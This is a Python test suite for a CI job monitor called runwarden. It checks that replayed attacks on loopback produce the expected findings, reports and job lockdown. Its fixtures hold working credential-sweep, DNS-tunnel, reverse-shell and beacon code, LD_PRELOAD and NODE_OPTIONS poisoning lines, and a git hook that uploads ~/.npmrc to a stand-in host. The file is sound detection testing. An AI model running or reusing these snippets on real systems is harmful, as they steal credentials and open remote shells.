"""End-to-end: each finding from its technique replayed with real processes (real files, a
real resolver on loopback, a real process outside the job), the findings in every output
(summary.json, terminal summary, report text/GitHub/JUnit/HTML, the signed statement), the
lockdown, and ordinary build jobs that must raise none. Network: loopback only."""
import base64
import json
import os
import socket
import subprocess
import sys
import threading
import time
import unittest

from rwtest import RW, Dnsmasq, Run, RwTestCase, TcpServer
from test_report_html import CHROMIUM, chromium
import test_agent  # its AgentTest is not imported by name: unittest would run it here too
from test_redteam import MEMREAD, SECRET, OutsideHolder

DNS = "127.0.53.21"
TOKEN = "ghp_" + "Q7x" * 12  # the shape of a GitHub token, made up here

# A credential dumper: reads the stores a worm collects, one process.
SWEEP = """
import sys, time
for path in sys.argv[2:]:
    try:
        open(path, 'rb').read()
    except OSError:
        pass
time.sleep(float(sys.argv[1]))
"""

# A DNS tunnel: 229 questions carrying base32 data in labels under one parent, to the
# resolver the test runs (the job's port-53 traffic goes through runwarden's gate to it).
TUNNEL = """
import base64, os, socket, struct, sys
dns, parent, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
for i in range(n):
    label = base64.b32encode(os.urandom(20)).decode().strip('=').lower()
    name = f"{label}.{i}.{parent}"
    q = struct.pack('>HHHHHH', i, 0x0100, 1, 0, 0, 0)
    q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0'
    q += struct.pack('>HH', 16 if i % 2 else 1, 1)
    s.sendto(q, (dns, 53))
    try:
        s.recvfrom(1024)
    except OSError:
        pass
"""

# A reverse shell: connect, the connection as stdin and stdout, a shell.
RSH = """
import os, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.execv('/bin/sh', ['sh', '-c', 'echo pwned'])
"""

UNIX = """
import socket, sys
for p in sys.argv[1:]:
    socket.socket(socket.AF_UNIX).connect(p)
"""

# A beacon left behind: the job's command returns at once, its child connects afterwards.
BEACON = """
import socket, sys, time
time.sleep(float(sys.argv[3]))
c = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=2)
c.close()
"""


def stores(home):
    """Credential files of five stores under home (made up contents)."""
    paths = {".npmrc": "//registry.test/:_authToken=x\n", ".aws/credentials": "[default]\n",
             ".ssh/id_ed25519": "k\n", ".git-credentials": "https://u:p@git.test\n",
             ".docker/config.json": "{}\n"}
    out = []
    for rel, text in paths.items():
        p = os.path.join(home, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write(text)
        out.append(p)
    return out


class FindingsTest(RwTestCase):
    def findings(self, r, kind=None):
        self.assertIsNotNone(r.summary, r.stderr)
        fs = r.summary["findings"]
        return [f for f in fs if kind is None or f["kind"] == kind]

    def assert_evidence(self, r, f, kinds):
        """The evidence seqs name lines of the log of the expected kinds."""
        by_seq = {e["seq"]: e for e in r.events}
        self.assertTrue(f["evidence"], f)
        for s in f["evidence"]:
            self.assertIn(s, by_seq, f)
            self.assertIn(by_seq[s]["kind"], kinds, by_seq[s])

    # ------------------------------------------------------------ memory and environment

    def test_memory_read_of_a_process_outside_the_job(self):
        h = OutsideHolder()
        self.addCleanup(lambda: h.proc.poll() is None and h.proc.kill())
        r = self.rw([MEMREAD, "vm", str(h.pid), h.addr, str(len(SECRET))])
        h.held()
        self.assertIn(SECRET, r.stdout)  # the read really happened
        (f,) = self.findings(r, "memory_read")
        self.assertEqual(f["severity"], "high")
        self.assertEqual(f["target"]["pid"], h.pid)
        self.assertEqual(f["target"]["scope"], "outside")
        self.assertTrue(f["target"]["exe"].endswith("/memread"), f)
        self.assertTrue(f["exe"].endswith("/memread"))
        self.assertIn(f"of pid {h.pid}", f["description"])
        self.assert_evidence(r, f, {"memread"})

    def test_environ_read_of_another_process(self):
        h = OutsideHolder()
        self.addCleanup(lambda: h.proc.poll() is None and h.proc.kill())
        r = self.rw([MEMREAD, "environ", str(h.pid)])
        h.held()
        (f,) = self.findings(r, "environ_read")
        self.assertEqual(f["target"]["pid"], h.pid)
        self.assertIn(f["severity"], ("high", "medium"))

    # ------------------------------------------------------------ credential sweep

    def test_credential_sweep_by_one_process(self):
        files = stores(os.path.join(self.tmp, "home"))
        r = self.rw([sys.executable, "-c", SWEEP, "0", *files])
        (f,) = self.findings(r, "credential_sweep")
        self.assertEqual(f["severity"], "high")
        self.assertEqual(sorted(f["stores"]), ["cloud", "docker", "git", "npm", "ssh"])
        self.assertIn("credential stores", f["description"])
        self.assert_evidence(r, f, {"file"})
        # the summary leads with it, and so does the terminal summary
        self.assertEqual(next(iter(r.summary)), "findings")
        first = r.stderr.split("FINDINGS", 1)
        self.assertEqual(len(first), 2, r.stderr)
        self.assertIn("credential_sweep", first[1].splitlines()[1])

    def test_credential_sweep_by_a_shell_loop(self):
        files = stores(os.path.join(self.tmp, "home"))
        loop = 'for f in "$@"; do cat "$f" > /dev/null; done'
        r = self.rw(["sh", "-c", loop, "sh", *files])
        (f,) = self.findings(r, "credential_sweep")
        self.assertEqual(f["severity"], "medium")
        self.assertTrue(f["tree"])
        self.assertEqual(len(f["stores"]), 5)

    def test_one_store_read_often_is_no_sweep(self):
        files = stores(os.path.join(self.tmp, "home"))
        r = self.rw([sys.executable, "-c", SWEEP, "0", *([files[0]] * 20)])
        self.assertEqual(self.findings(r), [])

    # ------------------------------------------------------------ DNS

    def test_dns_tunnel_is_one_finding(self):
        d = Dnsmasq(addr=DNS, records=[("exfil.test", "127.0.0.9")])
        self.addCleanup(d.stop)
        r = self.rw([sys.executable, "-c", TUNNEL, DNS, "t.exfil.test", "229"])
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertGreaterEqual(len(r.of("dns")), 229)  # the lines are all still there
        fs = self.findings(r)
        self.assertEqual(len(fs), 1, fs)
        f = fs[0]
        self.assertEqual(f["kind"], "dns_tunnel")
        self.assertEqual(f["severity"], "high")
        self.assertEqual(f["parent"], "exfil.test")
        self.assertGreaterEqual(f["lookups"], 229)
        # About 9% of random base32 labels alternate letters and digits fewer than 6 times and
        # are not counted as encoded (the rule keeps hyphenated names people choose out): the
        # mean is 208 of 229 with a spread of 4.4, so 180 is six spreads below it (CI once saw 198).
        self.assertGreaterEqual(f["encoded_names"], 180)
        self.assertEqual(len(f["evidence"]) + f["evidence_unlisted"], f["lookups"], f)
        self.assert_evidence(r, f, {"dns"})

    def test_dig_lookups_are_no_tunnel(self):
        d = Dnsmasq(addr=DNS, records=[("svc.test", "127.0.0.9")])
        self.addCleanup(d.stop)
        names = " ".join(f"host{i}.svc.test" for i in range(40))
        r = self.rw(["sh", "-c", f"for n in {names}; do dig +short @{DNS} $n A; done"])
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertEqual(self.findings(r), [])

    # ------------------------------------------------------------ persistence

    def test_process_outliving_the_command_and_what_it_did(self):
        srv = TcpServer("127.0.20.7")
        self.addCleanup(srv.stop)
        cmd = f'"$1" -c "$2" 127.0.20.7 {srv.port} 0.7 </dev/null >/dev/null 2>&1 & exit 0'
        r = self.rw(["sh", "-c", cmd, "sh", sys.executable, BEACON], "--grace", "10")
        (f,) = self.findings(r, "persistence")
        self.assertEqual(f["severity"], "medium")
        self.assertGreaterEqual(f["actions_after"], 1)
        self.assertTrue(any("connected to tcp 127.0.20.7" in a for a in f["after"]), f)
        self.assertFalse(f["running_at_end"])
        self.assert_evidence(r, f, {"connect", "exec", "dns", "file"})

    def test_leftover_is_persistence(self):
        r = self.rw(["sh", "-c", "setsid sleep 60 </dev/null >/dev/null 2>&1 & exit 0"],
                    "--grace", "1", "--kill-leftovers")
        (f,) = self.findings(r, "persistence")
        self.assertTrue(f["running_at_end"])
        self.assertIn("still running at the end", f["description"])

    # ------------------------------------------------------------ secrets

    def test_secrets_are_redacted_from_every_file(self):
        r = self.rw(["sh", "-c", "true", "sh", "--token", TOKEN, f"PASSWORD=pw-{TOKEN[4:]}"])
        self.assertEqual(r.rc, 0, r.stderr)
        for name in os.listdir(r.outdir):
            with open(os.path.join(r.outdir, name), "rb") as f:
                data = f.read()
            self.assertNotIn(TOKEN[4:].encode(), data, name)
        (f,) = self.findings(r, "secret_in_argv")
        self.assertEqual(len(f["tags"]), 2)
        (ex,) = r.of("exec")
        self.assertEqual(ex["argv"][5], f["tags"][0])
        self.assertTrue(ex["argv"][6].startswith("PASSWORD=[redacted:"), ex["argv"])
        self.assertIn(f["tags"][0], r.summary["command"])

    # ------------------------------------------------------------ runner file commands

    def file_commands(self):
        d = os.path.join(self.tmp, "_temp", "_runner_file_commands")
        os.makedirs(d)
        env, path = os.path.join(d, "set_env_3f2a"), os.path.join(d, "add_path_3f2a")
        for p in (env, path):
            open(p, "w").close()
        return env, path

    def test_github_env_poisoning(self):
        env, path = self.file_commands()
        script = ('echo "LD_PRELOAD=/tmp/evil.so" >> "$1"; echo "FOO=bar" >> "$1"; '
                  'printf "NODE_OPTIONS<<EOF\\n--require /tmp/p.js\\nEOF\\n" >> "$1"; '
                  'echo /tmp/bin >> "$2"; echo /usr/local/bin >> "$2"')
        r = self.rw(["sh", "-c", script, "sh", env, path])
        self.assertEqual(r.rc, 0, r.stderr)
        fs = {(f["name"], f["value"]): f for f in self.findings(r, "runner_file_command")}
        self.assertEqual(set(fs), {("LD_PRELOAD", "/tmp/evil.so"),
                                   ("NODE_OPTIONS", "--require /tmp/p.js"),
                                   ("PATH", "/tmp/bin")}, fs)
        self.assertEqual(fs[("LD_PRELOAD", "/tmp/evil.so")]["severity"], "high")
        self.assertEqual(fs[("PATH", "/tmp/bin")]["severity"], "medium")
        self.assertIn("for the steps after this one", fs[("LD_PRELOAD", "/tmp/evil.so")]
                      ["description"])
        self.assert_evidence(r, fs[("LD_PRELOAD", "/tmp/evil.so")], {"file"})

    def test_ordinary_file_commands_raise_none(self):
        env, path = self.file_commands()
        script = ('echo "NODE_VERSION=20" >> "$1"; echo "CI_CACHE<<X" >> "$1"; '
                  'echo "a=b" >> "$1"; echo X >> "$1"; echo /usr/local/bin >> "$2"')
        r = self.rw(["sh", "-c", script, "sh", env, path])
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertEqual(self.findings(r), [])

    # Other platforms' files later steps load: named by the platform's variable, which the
    # test sets as the runner would. Lines there at the start are not the job's.

    def platform_env(self, **extra):
        env = {k: v for k, v in os.environ.items()
               if k not in ("GITHUB_ACTIONS", "GITLAB_CI", "CI", "BUILDKITE", "CIRCLECI",
                            "BASH_ENV", "BUILDKITE_ENV_FILE")}
        env.update(extra)
        return env

    def platform_file(self, name, text):
        p = os.path.join(self.tmp, name)
        with open(p, "w") as f:
            f.write(text)
        return p

    def test_circleci_bash_env_poisoning(self):
        bash_env = self.platform_file(".bash_env-0-build",
                                      "export NODE_OPTIONS=--max-old-space-size=4096\n")
        script = ('echo "export LD_PRELOAD=/tmp/evil.so" >> "$BASH_ENV"; '
                  'echo "export FOO=bar" >> "$BASH_ENV"; '
                  'echo \'export PATH="/tmp/x:$PATH"\' >> "$BASH_ENV"; '
                  'echo \'export A=1 PYTHONPATH=/tmp/p\' >> "$BASH_ENV"; '
                  'echo "alias git=/tmp/x/git" >> "$BASH_ENV"; '
                  'echo \'curl() { /tmp/x/curl "$@"; }\' >> "$BASH_ENV"')
        r = self.rw(["sh", "-c", script], "--workspace", "none",
                    env=self.platform_env(CIRCLECI="true", BASH_ENV=bash_env))
        self.assertEqual(r.rc, 0, r.stderr)
        fs = {f["name"]: f for f in self.findings(r, "runner_file_command")}
        self.assertEqual(set(fs), {"LD_PRELOAD", "PATH", "PYTHONPATH", "git", "curl"}, fs)
        self.assertEqual(fs["LD_PRELOAD"]["value"], "/tmp/evil.so")
        self.assertEqual(fs["LD_PRELOAD"]["severity"], "high")
        self.assertEqual(fs["LD_PRELOAD"]["variable"], "BASH_ENV")
        self.assertEqual(fs["LD_PRELOAD"]["command"], "bash_env")
        self.assertEqual(fs["PATH"]["value"], "/tmp/x")
        self.assertEqual(fs["PATH"]["severity"], "medium")
        self.assertTrue(fs["git"]["redefines"])
        self.assertEqual(fs["curl"]["severity"], "high")
        self.assertIn("(BASH_ENV)", fs["LD_PRELOAD"]["description"])
        self.assert_evidence(r, fs["LD_PRELOAD"], {"file"})

    def test_circleci_ordinary_bash_env_raises_none(self):
        bash_env = self.platform_file(".bash_env-1-build", "")
        script = ('echo "export FOO=bar" >> "$BASH_ENV"; '
                  'echo \'export PATH="$HOME/.local/bin:$PATH"\' >> "$BASH_ENV"; '
                  'echo "export PATH=/usr/local/go/bin:\\$PATH" >> "$BASH_ENV"; '
                  'echo "# LD_PRELOAD=/tmp/evil.so" >> "$BASH_ENV"; '
                  'echo "alias ll=\'ls -l\'" >> "$BASH_ENV"')
        r = self.rw(["sh", "-c", script], "--workspace", "none",
                    env=self.platform_env(CIRCLECI="true", BASH_ENV=bash_env))
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertEqual(self.findings(r), [])

    def test_bash_env_outside_circleci_is_not_a_file_command(self):
        # BASH_ENV is an ordinary bash variable elsewhere: only CircleCI loads it per step.
        bash_env = self.platform_file("bashrc", "")
        r = self.rw(["sh", "-c", 'echo "export LD_PRELOAD=/tmp/evil.so" >> "$BASH_ENV"'],
                    "--workspace", "none", env=self.platform_env(BASH_ENV=bash_env))
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertEqual(self.findings(r, "runner_file_command"), [])

    def test_buildkite_env_file_poisoning(self):
        env_file = self.platform_file("job-env-0191", "BUILDKITE=true\n"
                                      "NODE_OPTIONS=--max-old-space-size=4096\n")
        script = 'echo "LD_PRELOAD=/tmp/evil.so" >> "$1"; echo "FOO=bar" >> "$1"'
        r = self.rw(["sh", "-c", script, "sh", env_file], "--workspace", "none",
                    env=self.platform_env(BUILDKITE="true", BUILDKITE_ENV_FILE=env_file))
        self.assertEqual(r.rc, 0, r.stderr)
        fs = self.findings(r, "runner_file_command")
        self.assertEqual([(f["name"], f["value"], f["severity"], f["command"]) for f in fs],
                         [("LD_PRELOAD", "/tmp/evil.so", "high", "env_file")], fs)
        self.assertIn("(BUILDKITE_ENV_FILE)", fs[0]["description"])

    def test_buildkite_ordinary_env_file_raises_none(self):
        env_file = self.platform_file("job-env-0192", "BUILDKITE=true\n")
        r = self.rw(["sh", "-c", 'echo "FOO=bar" >> "$1"', "sh", env_file],
                    "--workspace", "none",
                    env=self.platform_env(BUILDKITE="true", BUILDKITE_ENV_FILE=env_file))
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertEqual(self.findings(r), [])

    # ------------------------------------------------------------ host access

    def test_reverse_shell_python(self):
        srv = socket.socket()
        srv.bind(("127.0.20.8", 0))
        srv.listen(1)
        self.addCleanup(srv.close)
        port = srv.getsockname()[1]
        got = []

        def serve():
            c = srv.accept()[0]
            got.append(c.recv(100))
            c.close()
        t = threading.Thread(target=serve)
        t.start()
        r = self.rw([sys.executable, "-c", RSH, "127.0.20.8", str(port)])
        t.join(10)
        self.assertEqual(got, [b"pwned\n"])  # the shell really ran on the connection
        (f,) = self.findings(r, "reverse_shell")
        self.assertEqual(f["severity"], "critical")
        self.assertTrue(f["stdin"] and f["stdout"] and f["interpreter"])
        self.assertIn(f"127.0.20.8:{port}", f["connection"])
        self.assert_evidence(r, f, {"exec", "connect"})
        (ex,) = [e for e in r.of("exec") if e["pid"] == f["pid"] and e.get("stdio_inet")]
        self.assertEqual(ex["stdio_inet"], ["stdin", "stdout"])

    def test_reverse_shell_bash_dev_tcp(self):
        srv = socket.socket()
        srv.bind(("127.0.20.8", 0))
        srv.listen(1)
        self.addCleanup(srv.close)
        port = srv.getsockname()[1]
        def serve():
            c = srv.accept()[0]
            c.sendall(b"exit\n")
            c.close()
        t = threading.Thread(target=serve)
        t.start()
        r = self.rw(["bash", "-c", f"bash -i >& /dev/tcp/127.0.20.8/{port} 0>&1"])
        t.join(10)
        (f,) = self.findings(r, "reverse_shell")
        self.assertTrue(f["exe"].endswith("/bash"), f)

    def test_pipes_and_unix_socketpairs_are_no_reverse_shell(self):
        # npm and node start scripts with unix socket pairs as stdio (libuv)
        script = ("import socket, subprocess\n"
                  "a, b = socket.socketpair()\n"
                  "subprocess.run(['sh', '-c', 'echo hi'], stdin=a, stdout=a)\n"
                  "subprocess.run(['sh', '-c', 'echo hi | cat'])\n")
        r = self.rw([sys.executable, "-c", script])
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertEqual(self.findings(r), [])

    def test_container_engine_socket(self):
        path = os.path.join(self.tmp, "run", "docker.sock")
        os.makedirs(os.path.dirname(path))
        other = os.path.join(self.tmp, "run", "app.sock")
        servers = []
        for p in (path, other):
            u = socket.socket(socket.AF_UNIX)
            u.bind(p)
            u.listen(4)
            self.addCleanup(u.close)
            servers.append(u)
        r = self.rw([sys.executable, "-c", UNIX, path, other])
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertEqual(sorted(e["path"] for e in r.of("unix_connect")), sorted([path, other]))
        (f,) = self.findings(r, "container_engine")
        self.assertEqual(f["socket"], path)
        self.assertEqual(f["severity"], "high")
        self.assertTrue(f["succeeded"])
        self.assert_evidence(r, f, {"unix_connect"})

    def test_bind_mount(self):
        a, b = os.path.join(self.tmp, "a"), os.path.join(self.tmp, "b")
        os.makedirs(a)
        os.makedirs(b)
        r = self.rw(["unshare", "-m", "sh", "-c", f"mount --bind {a} {b} && "
                     f"mount -t tmpfs none {b}"])
        self.assertEqual(r.rc, 0, r.stderr)
        fs = self.findings(r, "mount")
        self.assertEqual(len(fs), 2, fs)  # not unshare's propagation change
        bind = [f for f in fs if f["bind"]][0]
        self.assertEqual((bind["source"], bind["target"], bind["severity"]), (a, b, "high"))
        tmpfs = [f for f in fs if not f["bind"]][0]
        self.assertEqual((tmpfs["fstype"], tmpfs["severity"]), ("tmpfs", "medium"))
        self.assert_evidence(r, bind, {"mount"})

    # ------------------------------------------------------------ git hooks

    def repo(self):
        d = os.path.join(self.tmp, "repo")
        subprocess.run(["git", "init", "-q", d], check=True)
        return d

    def test_git_hook_written(self):
        d = self.repo()
        hook = os.path.join(d, ".git", "hooks", "post-checkout")
        r = self.rw(["sh", "-c", f'printf "#!/bin/sh\\ncurl -d @~/.npmrc x.test\\n" > {hook}'])
        self.assertEqual(r.rc, 0, r.stderr)
        (f,) = self.findings(r, "git_hook")
        self.assertEqual((f["hook"], f["file"], f["severity"]), ("post-checkout", hook, "medium"))
        self.assert_evidence(r, f, {"file"})

    def test_git_work_raises_none(self):
        d = self.repo()
        env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@x.test",
                   GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@x.test")
        script = (f"cd {d} && echo a > a && git add a && git commit -qm a && "
                  f"git checkout -qb b && git init -q ../other && git status --short")
        r = self.rw(["sh", "-c", script], env=env)
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertEqual(self.findings(r), [])

    # ------------------------------------------------------------ lockdown

    def policy(self, body="on_finding: {high: kill}\n", mode="enforce"):
        path = os.path.join(self.tmp, "policy.yaml")
        with open(path, "w") as f:
            f.write(f"version: 1\nmode: {mode}\n{body}allow:\n  - cidr: 127.0.10.0/24\n")
        return path

    def test_lockdown_ends_the_job_at_once(self):
        files = stores(os.path.join(self.tmp, "home"))
        out = os.path.join(self.tmp, "out")
        t0 = time.time()
        p = subprocess.run([RW, "run", "--out", out, "--policy", self.policy(), "--",
                            sys.executable, "-c", SWEEP + "print('survived')", "30", *files],
                           capture_output=True, text=True, timeout=120)
        took = time.time() - t0
        self.assertEqual(p.returncode, 86, p.stderr)
        self.assertLess(took, 15, "the job was not ended at once")
        self.assertNotIn("survived", p.stdout)
        self.assertTrue(p.stderr.startswith("runwarden: LOCKDOWN: high finding "
                                            "credential_sweep"), p.stderr)
        with open(os.path.join(out, "summary.json")) as f:
            s = json.load(f)
        self.assertTrue(s["lockdown"]["enforced"])
        self.assertEqual(s["lockdown"]["kind"], "credential_sweep")
        # every report starts with the reason and gives the same exit status
        gh, junit, html = (os.path.join(self.tmp, n) for n in ("gh.md", "j.xml", "r.html"))
        rep = subprocess.run([RW, "report", out, "--github-summary", gh, "--junit", junit,
                              "--html", html], capture_output=True, text=True)
        self.assertEqual(rep.returncode, 0, rep.stderr)
        self.assertTrue(rep.stdout.startswith("LOCKDOWN: high finding credential_sweep"),
                        rep.stdout)
        self.assertIn("runwarden exit status: 86 (lockdown)", rep.stdout)
        self.assertIn("::error title=runwarden lockdown::LOCKDOWN", rep.stdout)
        with open(gh) as f:
            self.assertTrue(f.readline().startswith(":rotating_light: **LOCKDOWN"))
        with open(junit) as f:
            x = f.read()
        self.assertIn('<failure type="lockdown"', x)
        if CHROMIUM:  # the page as a browser shows it: the reason first, then the findings
            dom = chromium(["--virtual-time-budget=5000", "--dump-dom", "file://" + html],
                           self.tmp).stdout
            self.assertIn('data-ready="1"', dom)
            self.assertLess(dom.index('<p class="lockdown">LOCKDOWN: high finding '
                                      'credential_sweep'), dom.index("<h1>"))
            self.assertRegex(dom, r'<span class="badge sev-high">high</span></td>'
                                  r'<td>credential_sweep</td>')
        # the signed statement carries the findings and the lockdown, and still verifies
        v = subprocess.run([RW, "verify", "--key", os.path.join(out, "ephemeral.pub.pem"),
                            os.path.join(out, "attestation.dsse.json")],
                           capture_output=True, text=True)
        self.assertEqual(v.returncode, 3, v.stdout + v.stderr)  # ephemeral: self-consistent
        with open(os.path.join(out, "attestation.dsse.json")) as f:
            env = json.load(f)
        stmt = json.loads(base64.b64decode(env["payload"]))
        log = stmt["predicate"]["monitorLog"]
        self.assertEqual(log["findings"][0]["kind"], "credential_sweep")
        self.assertTrue(log["lockdown"]["enforced"])

    def test_observe_records_what_lockdown_would_have_done(self):
        files = stores(os.path.join(self.tmp, "home"))
        r = self.rw([sys.executable, "-c", SWEEP, "0", *files], "--policy",
                    self.policy(mode="observe"))
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertFalse(r.summary["lockdown"]["enforced"])
        self.assertIn("would have ended the job", r.stderr)

    def test_below_the_lockdown_severity_nothing_is_ended(self):
        files = stores(os.path.join(self.tmp, "home"))
        loop = 'for f in "$@"; do cat "$f" > /dev/null; done; echo done'
        r = self.rw(["sh", "-c", loop, "sh", *files], "--policy", self.policy())
        self.assertEqual(r.rc, 0, r.stderr)  # a medium finding, high: kill
        self.assertIn("done", r.stdout)
        self.assertIsNone(r.summary["lockdown"])

    def test_bad_on_finding_is_one_line(self):
        for body, want in (("on_finding: {severe: kill}\n", "is not a severity"),
                           ("on_finding: {high: stop}\n", "is not one of: none, kill"),
                           ("on_finding: kill\n", "expected a mapping")):
            p = subprocess.run([RW, "policy", "check", self.policy(body)],
                               capture_output=True, text=True)
            self.assertNotEqual(p.returncode, 0)
            self.assertEqual(len(p.stderr.strip().splitlines()), 1, p.stderr)
            self.assertIn(want, p.stderr)
            self.assertIn("policy.yaml:3:", p.stderr)

    # ------------------------------------------------------------ ordinary jobs

    def test_make_build_raises_none(self):
        src = os.path.join(self.tmp, "proj")
        os.makedirs(src)
        with open(os.path.join(src, "hello.c"), "w") as f:
            f.write('#include <stdio.h>\nint main(void){puts("hi");return 0;}\n')
        with open(os.path.join(src, "Makefile"), "w") as f:
            f.write("all: hello\n\thello: hello.c\n\t$(CC) -O2 -o $@ $<\n".replace(
                "\n\thello:", "\nhello:"))
        r = self.rw(["make", "-C", src, "-j2"])
        self.assertEqual(r.rc, 0, r.stderr)
        self.assertTrue(os.path.exists(os.path.join(src, "hello")))
        self.assertEqual(self.findings(r), [])


if __name__ == "__main__":
    unittest.main()


class WholeJobFindingsTest(test_agent.AgentTest):
    """Whole-job mode (agent): a step's first process is its root; what it leaves running
    outlives its step; a lockdown ends the whole job, the runner's worker with it."""

    def test_process_outliving_its_step(self):
        w = self.worker()
        out = os.path.join(self.tmp, "out")
        rc, _, err = self.agent.job("start", "--pid", str(w.pid), "--out", out, "--no-sign")
        self.assertEqual(rc, 0, err)
        gh = ["env", "GITHUB_ACTIONS=true"]
        beacon = (f'"$1" -c "$2" {test_agent.GOOD} {self.good.port} 0.5 '
                  f'</dev/null >/dev/null 2>&1 & exit 0')
        before = self.good.accepted
        self.assertEqual(w.step(*gh, "GITHUB_ACTION=first", "sh", "-c", beacon, "sh",
                                sys.executable, BEACON)["rc"], 0)
        # The next step, once the beacon has connected: a step of a fixed 1.5 s need not
        # outlast the beacon's start and its 0.5 s on a busy machine, and the job's stop
        # would then kill it before it did anything.
        deadline = time.time() + 30
        while self.good.accepted == before and time.time() < deadline:
            time.sleep(0.05)
        self.assertEqual(w.step(*gh, "GITHUB_ACTION=second", "true")["rc"], 0)
        rc, _, err = self.agent.job("stop")
        run = Run(rc, err, out)
        fs = [f for f in run.summary["findings"] if f["kind"] == "persistence"]
        self.assertEqual(len(fs), 1, run.summary["findings"])
        self.assertEqual(fs[0]["step"], "first")
        self.assertIn("outlived its step", fs[0]["description"])
        self.assertTrue(any(f"connected to tcp {test_agent.GOOD}" in a for a in fs[0]["after"]),
                        fs[0])

    def test_lockdown_ends_the_whole_job(self):
        files = stores(os.path.join(self.tmp, "home"))
        w = self.worker()
        out = os.path.join(self.tmp, "out")
        pol = os.path.join(self.tmp, "lock.yaml")
        with open(pol, "w") as f:
            f.write("version: 1\nmode: enforce\non_finding: {high: kill}\n"
                    f"allow:\n  - ip: {test_agent.GOOD}\n")
        rc, _, err = self.agent.job("start", "--pid", str(w.pid), "--out", out, "--no-sign",
                                    "--policy", pol, "--mode", "enforce")
        self.assertEqual(rc, 0, err)
        w.proc.stdin.write(json.dumps([sys.executable, "-c", SWEEP, "30", *files]) + "\n")
        w.proc.stdin.flush()
        self.assertEqual(w.proc.wait(15), -9)  # the runner's worker was in the scope
        rc, _, err = self.agent.job("stop")
        self.assertEqual(rc, 86, err)
        run = Run(rc, err, out)
        self.assertTrue(run.summary["lockdown"]["enforced"])
        self.assertEqual(run.summary["lockdown"]["kind"], "credential_sweep")


# Only the tests above: AgentTest's own run in test_agent.
for _name in dir(test_agent.AgentTest):
    if _name.startswith("test") and _name not in WholeJobFindingsTest.__dict__:
        setattr(WholeJobFindingsTest, _name, None)
